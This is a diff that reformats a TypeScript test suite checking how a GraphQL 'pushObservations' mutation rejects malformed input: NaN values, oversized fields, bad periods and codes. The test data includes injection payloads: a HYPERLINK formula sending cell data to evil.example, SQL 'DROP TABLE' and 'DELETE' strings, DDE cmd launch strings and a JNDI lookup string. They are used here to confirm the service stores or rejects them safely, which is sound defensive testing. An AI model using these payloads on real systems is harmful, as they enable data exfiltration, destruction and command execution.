@@ -29,7 +29,11 @@ describeEachDb('pushObservations: malformed input', (db) => {
   const expectUnchanged = async () => expect(await snapshot()).toBe(fingerprint);
 
   const raw = async (body: string): Promise<GqlResponse> => {
-    const res = await fetch(`${t.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${ADMIN}` }, body });
+    const res = await fetch(`${t.url}/graphql`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${ADMIN}` },
+      body,
+    });
     return { ...(await res.json()), status: res.status };
   };
   const expectBadInput = (res: GqlResponse, reason?: string) => {
@@ -62,13 +66,16 @@ describeEachDb('pushObservations: malformed input', (db) => {
   });
 
   it('rejects NaN and Infinity, which neither JSON nor GraphQL Float can carry', async () => {
-    const body = (value: string) => `{"query":${JSON.stringify(PUSH_MUTATION)},"variables":{"input":{"rows":[{"unitCode":"392","indicatorCode":"THU_NHAP_BQ","period":"2024","value":${value}}]}}}`;
+    const body = (value: string) =>
+      `{"query":${JSON.stringify(PUSH_MUTATION)},"variables":{"input":{"rows":[{"unitCode":"392","indicatorCode":"THU_NHAP_BQ","period":"2024","value":${value}}]}}}`;
     for (const v of ['NaN', 'Infinity', '-Infinity', '1e400', '-1e400', '"NaN"', '"Infinity"']) {
       const res = await raw(body(v));
       expect(res.status).toBeGreaterThanOrEqual(400);
       expectBadInput(res);
     }
-    const inline = await t.gql('mutation { pushObservations(input: { rows: [{ unitCode: "392", indicatorCode: "THU_NHAP_BQ", period: "2024", value: NaN }] }) { applied } }');
+    const inline = await t.gql(
+      'mutation { pushObservations(input: { rows: [{ unitCode: "392", indicatorCode: "THU_NHAP_BQ", period: "2024", value: NaN }] }) { applied } }',
+    );
     expectBadInput(inline);
     await expectUnchanged();
   });
@@ -78,34 +85,75 @@ describeEachDb('pushObservations: malformed input', (db) => {
   it('refuses a 10 MB note or source row by row without echoing it, and an oversized body as a whole', async () => {
     // 10 MB of UTF-8 ("đ" is two bytes), one huge field per request to stay under the 32 MB body limit.
     const huge = 'đ'.repeat(5 * 1024 * 1024);
-    const res = await push(t, [{ ...good, note: huge }, { ...good, period: '2021', note: 'x'.repeat(2001) }, { ...good, period: '2020', source: 'x'.repeat(501) }], { atomic: false });
+    const res = await push(
+      t,
+      [
+        { ...good, note: huge },
+        { ...good, period: '2021', note: 'x'.repeat(2001) },
+        { ...good, period: '2020', source: 'x'.repeat(501) },
+      ],
+      { atomic: false },
+    );
     const bigSource = await push(t, [{ ...good, period: '2023', source: huge }]);
     const bigCode = await push(t, [{ ...good, period: '2022', unitCode: huge }]);
     res.rows.push(bigSource.rows[0], bigCode.rows[0]);
     expect(res.rows.map((r) => [r.outcome, r.code, r.field])).toEqual([
-      ['INVALID', 'TEXT_TOO_LONG', 'note'], ['INVALID', 'TEXT_TOO_LONG', 'note'], ['INVALID', 'TEXT_TOO_LONG', 'source'],
-      ['INVALID', 'TEXT_TOO_LONG', 'source'], ['INVALID', 'UNKNOWN_UNIT', 'unitCode'],
+      ['INVALID', 'TEXT_TOO_LONG', 'note'],
+      ['INVALID', 'TEXT_TOO_LONG', 'note'],
+      ['INVALID', 'TEXT_TOO_LONG', 'source'],
+      ['INVALID', 'TEXT_TOO_LONG', 'source'],
+      ['INVALID', 'UNKNOWN_UNIT', 'unitCode'],
     ]);
     for (const r of res.rows) expect(r.message!.length).toBeLessThan(300);
     await expectUnchanged();
-    const tooBig = await raw(JSON.stringify({ query: PUSH_MUTATION, variables: { input: { rows: [{ ...good, note: 'x'.repeat(33 * 1024 * 1024) }] } } }));
+    const tooBig = await raw(
+      JSON.stringify({
+        query: PUSH_MUTATION,
+        variables: { input: { rows: [{ ...good, note: 'x'.repeat(33 * 1024 * 1024) }] } },
+      }),
+    );
     expect(tooBig.status).toBe(413);
     expect(errorCode(tooBig)).toBe('BAD_USER_INPUT');
     await expectUnchanged();
   });
 
   it('refuses every malformed period, code, status and version per row', async () => {
-    const periods = ['2023-13', '2023-Q5', '2023-H3', '23', '2023 ', ' 2023', '2023-1', '2023..2023', '2024..2023', '2023-00', '1899', '2023/2024', '', '2023-q3', '2023–2025'];
-    const res = await push(t, [
-      ...periods.map((period) => ({ ...good, period })),
-      { ...good, unitCode: '' },
-      { ...good, unitCode: '0392' },
-      { ...good, indicatorCode: 'thu_nhap_bq' },
-      { ...good, baseVersion: 0 },
-      { ...good, baseVersion: -3 },
-    ], { atomic: false });
+    const periods = [
+      '2023-13',
+      '2023-Q5',
+      '2023-H3',
+      '23',
+      '2023 ',
+      ' 2023',
+      '2023-1',
+      '2023..2023',
+      '2024..2023',
+      '2023-00',
+      '1899',
+      '2023/2024',
+      '',
+      '2023-q3',
+      '2023–2025',
+    ];
+    const res = await push(
+      t,
+      [
+        ...periods.map((period) => ({ ...good, period })),
+        { ...good, unitCode: '' },
+        { ...good, unitCode: '0392' },
+        { ...good, indicatorCode: 'thu_nhap_bq' },
+        { ...good, baseVersion: 0 },
+        { ...good, baseVersion: -3 },
+      ],
+      { atomic: false },
+    );
     expect(res.rows.map((r) => r.code)).toEqual([
-      ...periods.map(() => 'INVALID_PERIOD'), 'UNKNOWN_UNIT', 'UNKNOWN_UNIT', 'UNKNOWN_INDICATOR', 'INVALID_BASE_VERSION', 'INVALID_BASE_VERSION',
+      ...periods.map(() => 'INVALID_PERIOD'),
+      'UNKNOWN_UNIT',
+      'UNKNOWN_UNIT',
+      'UNKNOWN_INDICATOR',
+      'INVALID_BASE_VERSION',
+      'INVALID_BASE_VERSION',
     ]);
     expect(res).toMatchObject({ applied: true, created: 0, rejected: periods.length + 5, batchId: null });
     await expectUnchanged();
@@ -126,8 +174,8 @@ describeEachDb('pushObservations: malformed input', (db) => {
       '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
       "'); DROP TABLE observation; --",
       '" OR 1=1; DELETE FROM observation_revision WHERE "1"="1',
-      '+cmd|\' /C calc\'!A0',
-      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
       '-2+3',
       '\\x00 \\\\ %_ ! ${jndi:ldap://x}',
       'Tỷ lệ hộ nghèo giảm 1,2% 🎉\ttab\nnewline\r\n',
@@ -137,7 +185,9 @@ describeEachDb('pushObservations: malformed input', (db) => {
     const rows = texts.map((note, i) => ({ ...good, period: String(2001 + i), note, source: note.slice(0, 500) }));
     const res = await push(t, rows);
     expect(res).toMatchObject({ applied: true, created: texts.length });
-    const injected = await push(t, [{ ...good, unitCode: "392' OR '1'='1", period: "2024'; DROP TABLE observation; --" }]);
+    const injected = await push(t, [
+      { ...good, unitCode: "392' OR '1'='1", period: "2024'; DROP TABLE observation; --" },
+    ]);
     expect(injected.rows[0].code).toBe('UNKNOWN_UNIT');
     const stored = await readBack(t, ['392']);
     texts.forEach((note, i) => expect(stored.get(`392|THU_NHAP_BQ|${2001 + i}`)).toMatchObject({ note, source: note }));
